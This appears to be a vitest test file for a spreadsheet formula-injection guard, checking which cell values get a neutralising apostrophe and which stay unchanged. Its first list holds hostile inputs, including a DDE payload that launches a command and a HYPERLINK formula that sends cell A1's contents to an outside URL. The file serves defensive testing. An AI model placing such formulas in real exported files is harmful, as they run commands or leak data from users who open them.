import { expect, test } from 'vitest'
import { disarmFormula } from '../../../src/files/tables/formula-guard.ts'

test.for([
  '=1+1',
  '=HYPERLINK("https://example.org?"&A1,"x")',
  "=cmd|'/C calc'!A0",
  '+A1',
  '+1-555-0100',
  '-2+3',
  '-1*A1',
  '-A1',
  '@SUM(A1)',
  '@handle',
  '\t=1',
  '\r=1',
  '\n=1',
  '\uff1d1',
  '\uff0b1',
  '\uff0d1',
  '\uff20x',
  '+',
  '+()',
  '-1E5',
  '-3\n=1',
])('%j gets an apostrophe', (cell) => {
  expect(disarmFormula(cell)).toBe(`'${cell}`)
})

test.for([
  '',
  'a',
  '1=1',
  ' x',
  '-3',
  '-3.5',
  '-3,5',
  '-3%',
  '+1.5',
  '-1 000,50',
  '+44 7700 900123',
  '+447700900123',
  '+44 (0)20 7946 0000',
  '-',
  '---',
  "'=1",
  'anne@example.org',
])('%j stays as it is', (cell) => {
  expect(disarmFormula(cell)).toBe(cell)
})
